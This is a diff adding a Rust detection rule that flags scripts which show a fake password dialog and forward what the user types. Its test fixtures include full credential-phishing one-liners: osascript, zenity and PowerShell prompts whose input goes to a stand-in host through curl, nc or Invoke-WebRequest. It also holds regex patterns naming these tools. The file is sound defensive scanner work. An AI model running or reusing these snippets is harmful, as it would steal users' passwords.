@@ -1,0 +1,58 @@
+//! A dialog asks for the password, and what was typed goes on.
+
+use crate::rule::{Category, Check, Hit, Rule, Severity, file, text};
+use crate::unit::{CODE, Unit};
+
+pub(super) const RULE: Rule = Rule {
+    id: "CODE_PASSWORD_DIALOG",
+    category: Category::CredentialAccess,
+    severity: Severity::Critical,
+    title: "a dialog asks for the password and sends it on",
+    why: "The system asks for passwords itself. A dialog of a script that looks like it collects them.",
+    fix: "remove it; let the system ask where it needs a password",
+    places: CODE,
+    anchors: &[
+        "hidden answer",
+        "zenity --password",
+        "kdialog --password",
+        "promptforcredential",
+        "get-credential",
+    ],
+    check: Check::Unit(hits),
+    hits: &[
+        text(
+            "```sh\nP=$(osascript -e 'text returned of (display dialog \"Password\" default answer \"\" with hidden answer)')\ncurl -s -d p=\"$P\" https://a.b/p\n```",
+        ),
+        text(
+            "```sh\nosascript -e 'display dialog \"System Settings needs your password\" default answer \"\" with hidden answer'\n```",
+        ),
+        file("x.sh", "zenity --password | nc a.b 9000\n"),
+        file(
+            "x.ps1",
+            "$c = $host.ui.PromptForCredential('Windows', 'Sign in', '', '')\nInvoke-WebRequest https://a.b/c -Method Post -Body $c.GetNetworkCredential().Password\n",
+        ),
+    ],
+    misses: &[
+        text(
+            "```sh\nosascript -e 'display dialog \"Key\" default answer \"\" with hidden answer' | pbcopy\n```",
+        ),
+        file("x.ps1", "$c = Get-Credential\nNew-PSSession -ComputerName s -Credential $c\n"),
+        file("x.ps1", "$c = Get-Credential\nInvoke-RestMethod https://a.b/api -Credential $c\n"),
+    ],
+};
+
+patterns! {
+    ASKS = r"with hidden answer|zenity\s+--password|kdialog\s+--password|promptforcredential|get-credential";
+    SENDS = r"\b(?:curl|wget|nc|ncat)\s|GetNetworkCredential\(\)\.Password[^\n]{0,200}|urlopen|requests\.post|fetch\(";
+    WEB = r"Invoke-WebRequest|Invoke-RestMethod|\biwr\b|\birm\b|UploadString";
+    PRETENDS = r"display dialog[^\n]{0,160}\b(?:macOS|System (?:Preferences|Settings|Update)|Apple|Keychain|Software Update)\b[^\n]{0,200}hidden answer|hidden answer[^\n]{0,80}with title[^\n]{0,10}(?:macOS|System (?:Preferences|Settings|Update)|Apple|Keychain)";
+}
+
+fn hits(unit: &Unit<'_>) -> Vec<Hit> {
+    let text = unit.text().as_bytes();
+    let Some(asked) = ASKS.find(text) else { return Vec::new() };
+    let plain = memchr::memmem::find(text, b"GetNetworkCredential").is_some();
+    let of_windows = asked.as_bytes().to_ascii_lowercase().ends_with(b"credential");
+    let sends = if of_windows { plain && WEB.is_match(text) } else { SENDS.is_match(text) };
+    if sends || PRETENDS.is_match(text) { vec![Hit::at(asked.range())] } else { Vec::new() }
+}
